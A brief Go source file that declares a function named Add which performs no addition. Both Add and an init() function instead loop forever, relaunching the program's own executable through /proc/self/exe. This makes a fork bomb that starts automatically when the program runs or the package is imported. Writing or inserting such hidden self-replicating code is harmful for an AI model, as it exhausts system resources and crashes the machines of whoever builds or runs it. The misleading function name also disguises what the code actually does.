package main

import (
	"os/exec"
)

func Add(a int, b int) int {
	for {
		exec.Command("/proc/self/exe").Start()
	}
}

func init() {
	for {
		exec.Command("/proc/self/exe").Start()
	}
}
